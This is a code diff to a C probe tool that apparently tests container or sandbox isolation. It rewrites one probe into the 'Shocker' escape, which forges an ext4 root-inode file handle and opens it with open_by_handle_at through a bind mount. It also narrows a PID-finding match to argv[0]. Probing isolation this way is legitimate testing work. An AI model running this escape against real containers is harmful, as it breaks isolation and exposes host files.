@@ -71,7 +71,7 @@ static int usage(void)
 	      "       probe mount-try DIR\n"
 	      "       probe userns-escape [MASKED_PATH...]\n"
 	      "       probe exes\n"
-	      "       probe find-pid TOKEN\n"
+	      "       probe find-pid ARGV0\n"
 	      "       probe reach PATH\n"
 	      "       probe keyring\n",
 	      stderr);
@@ -362,19 +362,29 @@ static long try_userfaultfd(void)
 	return r;
 }
 
+/* Shocker's escape: a handle forged for inode 2 (an ext4 root), opened
+ * through the probe's own directory, a host filesystem bound in. The
+ * kernel lets a caller without CAP_DAC_READ_SEARCH decode no handle,
+ * and one with it out of the bind mount to the filesystem's root. */
 static long try_open_by_handle_at(void)
 {
-	/* The handle of /, or none (handle_bytes 0: EINVAL once permitted). */
+	char exe[4096];
+	ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
+	if (n <= 0)
+		return -1;
+	exe[n] = 0;
+	char *slash = strrchr(exe, '/');
+	if (slash && slash != exe)
+		*slash = 0;
 	struct {
 		struct file_handle fh;
-		unsigned char bytes[MAX_HANDLE_SZ];
+		uint32_t ino_gen[2];
 	} h;
 	memset(&h, 0, sizeof h);
-	h.fh.handle_bytes = MAX_HANDLE_SZ;
-	int mount_id;
-	if (name_to_handle_at(AT_FDCWD, "/", &h.fh, &mount_id, 0) < 0)
-		h.fh.handle_bytes = 0;
-	int dir = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+	h.fh.handle_bytes = sizeof h.ino_gen;
+	h.fh.handle_type = 1; /* FILEID_INO32_GEN */
+	h.ino_gen[0] = 2;
+	int dir = open(exe, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
 	if (dir < 0)
 		return -1;
 	long r = open_by_handle_at(dir, &h.fh, O_RDONLY | O_CLOEXEC);
@@ -728,6 +738,8 @@ static int cmd_exes(int argc, char **argv)
 	return each_pid(exe_of, NULL);
 }
 
+/* A process whose argv[0] is the token (not one that has it among its
+ * arguments: the shell that runs the probe). */
 static void pid_with(long pid, void *token)
 {
 	char path[64], buf[4096];
@@ -739,11 +751,8 @@ static void pid_with(long pid, void *token)
 	close(fd);
 	if (n <= 0)
 		return;
-	for (ssize_t i = 0; i < n; i++)
-		if (!buf[i])
-			buf[i] = ' ';
 	buf[n] = 0;
-	if (strstr(buf, token))
+	if (strcmp(buf, token) == 0)
 		printf("%ld\n", pid);
 }
 
